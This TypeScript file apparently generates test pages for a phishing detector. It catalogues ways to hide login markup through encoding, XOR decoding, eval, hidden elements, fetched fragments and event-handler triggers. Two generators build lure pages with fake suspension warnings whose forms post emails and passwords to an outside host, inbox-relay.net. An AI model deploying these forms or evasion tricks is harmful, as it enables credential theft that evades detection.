import { drawn, literal, pageOf, ROOT, type Tricks } from './trick.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const hexOf = (text: string) => Buffer.from(text).toString('hex');
const escaped = (text: string, prefix: string, digits: number) =>
  [...text].map((one) => `\\${prefix}${one.charCodeAt(0).toString(16).padStart(digits, '0')}`).join('');
const pieces = (text: string, length: number) => text.match(new RegExp(`.{1,${length}}`, 'g')) ?? [];
const single = (text: string) => `'${text}'`;

/** Markup that a script holds as it is, or in pieces. */
export const MARKUP_IN_LITERALS: Tricks = {
  'inner text of the body by a literal': ({ body }) => ({ '/': drawn(`document.body.innerHTML=${literal(body)}`) }),
  'literal in single quotes, by query selector': ({ body }) => ({
    '/': drawn(`document.querySelector("#root").innerHTML = ${single(body)};`),
  }),
  'template string over several lines': ({ body }) => ({
    '/': drawn(`const view = \`\n${body.replaceAll('><', '>\n  <')}\n\`;\n${ROOT}.innerHTML = view;`),
  }),
  'template string with constants': ({ body, brand }) => ({
    '/': drawn(`const name="${brand}";${ROOT}.innerHTML=\`${body.replaceAll(brand, '$' + '{name}')}\`;`),
  }),
  'pieces added by plus-equals': ({ body }) => ({
    '/': drawn(
      `var out="";${pieces(body, 60)
        .map((one) => `out+=${literal(one)};`)
        .join('')}${ROOT}.innerHTML=out;`,
    ),
  }),
  'pieces of one expression': ({ body }) => ({
    '/': drawn(`${ROOT}.innerHTML = ${pieces(body, 45).map(literal).join(' +\n  ')};`),
  }),
  'array of lines, joined': ({ body }) => ({
    '/': drawn(`const lines=${JSON.stringify(pieces(body, 70))};${ROOT}.innerHTML=lines.join("");`),
  }),
  'concat of literals': ({ body }) => ({
    '/': drawn(`${ROOT}.innerHTML="".concat(${pieces(body, 80).map(literal).join(',')});`),
  }),
  'outer markup of the root': ({ body }) => ({ '/': drawn(`${ROOT}.outerHTML=${literal(`<main>${body}</main>`)}`) }),
  'markup inserted before the end': ({ body }) => ({
    '/': drawn(`document.body.insertAdjacentHTML("beforeend", ${literal(body)})`),
  }),
  'parsed document, adopted': ({ body }) => ({
    '/': drawn(
      `const d=new DOMParser().parseFromString(${literal(body)},"text/html");document.body.replaceChildren(...d.body.childNodes);`,
    ),
  }),
  'contextual fragment': ({ body }) => ({
    '/': drawn(`document.body.append(document.createRange().createContextualFragment(${literal(body)}))`),
  }),
  'unsafe setter of markup': ({ body }) => ({ '/': drawn(`${ROOT}.setHTMLUnsafe(${literal(body)})`) }),
  'open shadow root': ({ body }) => ({
    '/': drawn(`${ROOT}.attachShadow({mode:"open"}).innerHTML=${literal(body)}`),
  }),
  'closed shadow root of a template string': ({ body }) => ({
    '/': drawn(`const s=${ROOT}.attachShadow({mode:"closed"});s.innerHTML=\`<style>p{color:red}</style>${body}\`;`),
  }),
  'custom element': ({ body }) => ({
    '/': drawn(
      `customElements.define("x-gate",class extends HTMLElement{connectedCallback(){this.innerHTML=${literal(body)}}})`,
      '<x-gate></x-gate>',
    ),
  }),
  'source document of a frame, set by script': ({ page }) => ({
    '/': drawn(
      `const f=document.createElement("iframe");f.style="position:fixed;inset:0;width:100%;height:100%;border:0";f.srcdoc=${literal(page)};document.body.append(f)`,
    ),
  }),
  'own helper in the manner of a library': ({ body }) => ({
    '/': drawn(`const $=(s)=>({html(t){document.querySelector(s).innerHTML=t}});$("#root").html(${literal(body)});`),
  }),
  'values of an object': ({ body }) => ({
    '/': drawn(
      `const parts={${pieces(body, 90)
        .map((one, at) => `p${at}:${literal(one)}`)
        .join(',')}};${ROOT}.innerHTML=Object.values(parts).join("");`,
    ),
  }),
  'written in pieces': ({ body }) => ({
    '/': drawn(
      pieces(body, 50)
        .map((one) => `document.write(${literal(one)});`)
        .join(''),
    ),
  }),
  'written after a while': ({ page }) => ({
    '/': drawn(`setTimeout(function(){document.open();document.write(${literal(page)});document.close()},300)`),
  }),
  'pieces in a loop': ({ body }) => ({
    '/': drawn(
      `var p=${JSON.stringify(pieces(body, 40))},o="";for(var i=0;i<p.length;i++){o+=p[i]}${ROOT}.innerHTML=o`,
    ),
  }),
  'static member of a class': ({ body }) => ({
    '/': drawn(
      `class V{static view=${literal(body)};constructor(e){this.e=e}render(){this.e.innerHTML=V.view}}new V(${ROOT}).render()`,
    ),
  }),
  'member of the object itself': ({ body }) => ({
    '/': drawn(`const app={view:${literal(body)},mount(e){e.innerHTML=this.view}};app.mount(${ROOT})`),
  }),
  'default of a parameter': ({ body }) => ({
    '/': drawn(`function show(view=${literal(body)}){${ROOT}.innerHTML=view}show()`),
  }),
  'value of a promise': ({ body }) => ({
    '/': drawn(`Promise.resolve(${literal(body)}).then((view)=>{${ROOT}.innerHTML=view})`),
  }),
  'quotes in a regular expression before': ({ body }) => ({
    '/': drawn(`var q=/["'\`]/g.test("x");${ROOT}.innerHTML=${literal(body)}`),
  }),
  'comment of HTML before': ({ body }) => ({ '/': drawn(`<!-- "\n${ROOT}.innerHTML=${literal(body)}`) }),
  'name of a member in an escape': ({ body }) => ({
    '/': drawn(`document.body.inner\\u0048TML=${literal(body)}`),
  }),
  'drawn with the next frame': ({ body }) => ({
    '/': drawn(`requestAnimationFrame(()=>{${ROOT}.innerHTML=${literal(body)}})`),
  }),
};

/** Code that decodes bytes by a key, and shows them in the body. */
function decodedByKey(body: string): string {
  const bytes = hexOf(body).replaceAll(/../g, (two) => (Number.parseInt(two, 16) ^ 0x2a).toString(16).padStart(2, '0'));
  return `const h="${bytes}";let o="";for(let i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^42);document.body.innerHTML=o;`;
}

/** Markup that a script holds in another form. */
export const MARKUP_ENCODED: Tricks = {
  'reversed characters': ({ body }) => ({
    '/': drawn(`${ROOT}.innerHTML=${literal([...body].reverse().join(''))}.split("").reverse().join("")`),
  }),
  'escapes of two digits': ({ body }) => ({ '/': drawn(`${ROOT}.innerHTML="${escaped(body, 'x', 2)}"`) }),
  'escapes of four digits': ({ body }) => ({ '/': drawn(`${ROOT}.innerHTML="${escaped(body, 'u', 4)}"`) }),
  base64: ({ body }) => ({ '/': drawn(`${ROOT}.innerHTML=atob("${base64(body)}")`) }),
  'percent escapes': ({ body }) => ({
    '/': drawn(`document.body.innerHTML=decodeURIComponent("${encodeURIComponent(body).replaceAll("'", '%27')}")`),
  }),
  'numbers of characters': ({ body }) => ({
    '/': drawn(`const n=[${Buffer.from(body).join(',')}];${ROOT}.innerHTML=String.fromCharCode(...n);`),
  }),
  'numbers with an offset, mapped': ({ body }) => ({
    '/': drawn(
      `const n=[${[...Buffer.from(body)].map((one) => one + 7).join(',')}];${ROOT}.innerHTML=n.map(c=>String.fromCharCode(c-7)).join("");`,
    ),
  }),
  'exclusive or with a key': ({ body }) => ({ '/': drawn(decodedByKey(body)) }),
  'placeholders for brackets': ({ body }) => ({
    '/': drawn(
      `${ROOT}.innerHTML=${literal(body.replaceAll('<', '{{').replaceAll('>', '}}'))}.replaceAll("{{","<").replaceAll("}}",">")`,
    ),
  }),
  'numbers of base 36': ({ body }) => ({
    '/': drawn(
      `${ROOT}.innerHTML="${[...Buffer.from(body)].map((one) => one.toString(36)).join('.')}".split(".").map((c)=>String.fromCharCode(parseInt(c,36))).join("")`,
    ),
  }),
  'base64 twice': ({ body }) => ({ '/': drawn(`${ROOT}.innerHTML=atob(atob("${base64(base64(body))}"))`) }),
  'bytes, decoded': ({ body }) => ({
    '/': drawn(`${ROOT}.innerHTML=new TextDecoder().decode(new Uint8Array([${Buffer.from(body).join(',')}]))`),
  }),
  'evaluated base64': ({ body }) => ({
    '/': drawn(`eval(atob("${base64(`${ROOT}.innerHTML=${literal(body)}`)}"))`),
  }),
  'function of a text': ({ body }) => ({
    '/': drawn(`new Function("d",${literal(`d.body.innerHTML=${literal(body)}`)})(document)`),
  }),
  'blob in a frame': ({ page }) => ({
    '/': drawn(
      `const u=URL.createObjectURL(new Blob([${literal(page)}],{type:"text/html"}));${ROOT}.innerHTML='<iframe style="position:fixed;inset:0;width:100%;height:100%" src="'+u+'"></iframe>'`,
    ),
  }),
};

/** Markup that the document itself holds, where it is not shown. */
export const MARKUP_ELSEWHERE: Tricks = {
  'template, cloned': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<template id="t">${body}</template><script>document.body.append(document.getElementById("t").content.cloneNode(true))</script>`,
    ),
  }),
  'script of another type': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="root"></div><script type="text/x-template" id="t">${body}</script><script>${ROOT}.innerHTML=document.getElementById("t").textContent</script>`,
    ),
  }),
  'text area, hidden': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<textarea id="t" hidden>${body}</textarea><div id="root"></div><script>${ROOT}.innerHTML=t.value</script>`,
    ),
  }),
  comment: ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="root"><!--${body}--></div><script>${ROOT}.innerHTML=${ROOT}.firstChild.data</script>`,
    ),
  }),
  'island of JSON': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="root"></div><script type="application/json" id="s">${JSON.stringify({ view: body })}</script><script>${ROOT}.innerHTML=JSON.parse(s.textContent).view</script>`,
    ),
  }),
  'words for browsers without scripts': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<noscript>${body}</noscript><div id="root"></div><script>${ROOT}.innerHTML=document.querySelector("noscript").textContent</script>`,
    ),
  }),
  'element that loses its class': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="v" class="h">${body}</div><script>v.classList.remove("h")</script>`,
      '<style>.h{display:none}</style>',
    ),
  }),
  'element of the head': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="root"></div><script>${ROOT}.innerHTML=atob(document.querySelector("meta[name=v]").content)</script>`,
      `<meta name="v" content="${base64(body)}">`,
    ),
  }),
  'attribute in hexadecimal': ({ body }) => ({
    '/': drawn(
      `${ROOT}.innerHTML=${ROOT}.dataset.v.replace(/../g,(h)=>String.fromCharCode(parseInt(h,16)))`,
      `<div id="root" data-v="${hexOf(body)}"></div>`,
    ),
  }),
};

const nodes = (brand: string, to: string) => `
const make=(tag,attributes,...children)=>{const e=document.createElement(tag);Object.assign(e,attributes);e.append(...children);return e};
const form=make("form",{method:"post",action:"${to}"},make("input",{type:"email",name:"email",placeholder:"Email"}),make("input",{type:"password",name:"pass",placeholder:"Password"}),make("button",{},"Log in"));
document.title="${brand}: Log in to your account";
document.body.append(make("h1",{},"Log in to ${brand}"),make("p",{},"Your ${brand} account will be suspended within 24 hours unless you confirm your identity."),form);`;

const statements = (brand: string, to: string) => `
var f=document.createElement("form");f.setAttribute("action","${to}");f.setAttribute("method","post");
var h=document.createElement("h2");h.textContent="${brand} account suspended. Log in now to confirm your identity";f.appendChild(h);
var u=document.createElement("input");u.name="user";f.appendChild(u);
var p=document.createElement("input");p.type="password";p.name="pw";f.appendChild(p);
var b=document.createElement("button");b.innerText="Log in to ${brand}";f.appendChild(b);
document.body.appendChild(f);`;

/** Pages that are built node by node, or by code and markup from elsewhere. */
export const BUILT: Tricks = {
  'tree of elements by a helper': ({ brand }) => ({ '/': drawn(nodes(brand, 'http://inbox-relay.net/take.php')) }),
  'elements one by one': ({ brand }) => ({ '/': drawn(statements(brand, 'http://inbox-relay.net/p.php')) }),
  'script of the site, markup in a literal': ({ body }) => ({
    '/': pageOf('App', '<div id="root"></div><script src="/app.js"></script>'),
    '/app.js': { headers: { 'Content-Type': 'text/javascript' }, body: `${ROOT}.innerHTML=${literal(body)}` },
  }),
  'script of the site, elements one by one': ({ brand }) => ({
    '/': pageOf('App', '<div id="app"></div><script defer src="static/js/main.3f2a.js"></script>'),
    '/static/js/main.3f2a.js': {
      headers: { 'Content-Type': 'text/javascript' },
      body: `(()=>{${statements(brand, 'http://inbox-relay.net/p.php')}})()`,
    },
  }),
  'module that imports the view': ({ body }) => ({
    '/': pageOf('App', '<div id="root"></div>', '<script type="module" src="/assets/index.js"></script>'),
    '/assets/index.js': {
      headers: { 'Content-Type': 'text/javascript' },
      body: `import {view} from "./view.js";${ROOT}.innerHTML=view;`,
    },
    '/assets/view.js': {
      headers: { 'Content-Type': 'text/javascript' },
      body: `export const view=${literal(body)};`,
    },
  }),
  'third of four scripts': ({ body }) => ({
    '/': pageOf(
      'App',
      `<div id="root"></div>${['a', 'b', 'c', 'd'].map((one) => `<script src="/${one}.js"></script>`).join('')}`,
    ),
    ...Object.fromEntries(
      ['a', 'b', 'd'].map((one) => [`/${one}.js`, { headers: { 'Content-Type': 'text/javascript' }, body: 'var x=1' }]),
    ),
    '/c.js': { headers: { 'Content-Type': 'text/javascript' }, body: `${ROOT}.innerHTML=${literal(body)}` },
  }),
  'script of the site, loaded by script': ({ body }) => ({
    '/': drawn('var s=document.createElement("script");s.src="/x.js";document.head.appendChild(s)'),
    '/x.js': { headers: { 'Content-Type': 'text/javascript' }, body: `${ROOT}.innerHTML=${literal(body)}` },
  }),
  'script of another host': ({ body, other }) => ({
    '/': pageOf('App', `<div id="root"></div><script src="http://${other}/w.js"></script>`),
    [`//${other}/w.js`]: { headers: { 'Content-Type': 'text/javascript' }, body: `${ROOT}.innerHTML=${literal(body)}` },
  }),
  'script of the site that decodes by a key': ({ body }) => ({
    '/': pageOf('App', '<p>Loading</p><script src="/a.js"></script>'),
    '/a.js': { headers: { 'Content-Type': 'text/javascript' }, body: decodedByKey(body) },
  }),
  'script of the site that fetches': ({ body }) => ({
    '/': pageOf('App', '<p>Loading</p><script src="/a.js"></script>'),
    '/a.js': {
      headers: { 'Content-Type': 'text/javascript' },
      body: 'fetch("/p").then((r)=>r.text()).then((t)=>{document.body.innerHTML=t})',
    },
    '/p': body,
  }),
  'data address of a script that decodes by a key': ({ body }) => ({
    '/': pageOf('App', `<script defer src="data:text/javascript;base64,${base64(decodedByKey(body))}"></script>`),
  }),
  'fragment, fetched, in place of a field': ({ body }) => ({
    '/': drawn(
      'fetch("/p").then((r)=>r.text()).then((t)=>{document.body.innerHTML=t})',
      '<form action="/s"><label>Email <input type="email" name="email"></label></form>',
    ),
    '/p': body,
  }),
  'fragment, fetched, in place of a choice': ({ body }) => ({
    '/': drawn(
      'fetch("/p").then((r)=>r.text()).then((t)=>{document.body.innerHTML=t})',
      '<select><option>English</option><option>Deutsch</option></select>',
    ),
    '/p': body,
  }),
  'fragment, fetched': ({ body }) => ({
    '/': drawn(`fetch("/views/login.html").then(r=>r.text()).then(t=>{${ROOT}.innerHTML=t})`),
    '/views/login.html': body,
  }),
  'fragment by an older request': ({ body }) => ({
    '/': drawn(
      `var x=new XMLHttpRequest();x.open("GET","part.php?step=1");x.onload=function(){${ROOT}.innerHTML=x.responseText};x.send()`,
    ),
    '/part.php': body,
  }),
  'view in JSON, fetched': ({ body }) => ({
    '/': drawn(`(async()=>{const {html}=await (await fetch("api/view")).json();document.body.innerHTML=html})()`),
    '/api/view': { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ html: body }) },
  }),
  'data address of a script, base64': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="root"></div><script src="data:text/javascript;base64,${base64(`${ROOT}.innerHTML=${literal(body)}`)}"></script>`,
    ),
  }),
  'data address of a script, escaped': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<div id="root"></div><script src="data:application/javascript,${encodeURIComponent(`document.body.innerHTML=${literal(body)}`).replaceAll("'", '%27')}"></script>`,
    ),
  }),
  'failing image': ({ body }) => ({
    '/': pageOf('Welcome', `<img src="/none.png" onerror='document.body.innerHTML=${literal(body)}'>`),
    '/none.png': { status: '404 Not Found', body: '' },
  }),
  'loaded drawing': ({ body }) => ({
    '/': pageOf('Welcome', `<svg onload='document.body.innerHTML=${literal(body)}'></svg>`),
  }),
  'loaded style': ({ body }) => ({
    '/': pageOf('Welcome', `<div id="root"></div><style onload='${ROOT}.innerHTML=${literal(body)}'>p{}</style>`),
  }),
  'loaded body': ({ body }) => ({
    '/': `<!doctype html><title>Welcome</title><body onload='document.body.innerHTML=${literal(body)}'>`,
  }),
  'focused field': ({ body }) => ({
    '/': pageOf('Welcome', `<input autofocus onfocus='document.body.innerHTML=${literal(body)}'>`),
  }),
  'opened details': ({ body }) => ({
    '/': pageOf('Welcome', `<details open ontoggle='document.body.innerHTML=${literal(body)}'></details>`),
  }),
  'started animation': ({ body }) => ({
    '/': pageOf(
      'Welcome',
      `<style>@keyframes k{to{left:0}}</style><i style="animation:k 1s" onanimationstart='document.body.innerHTML=${literal(body)}'></i>`,
    ),
  }),
};
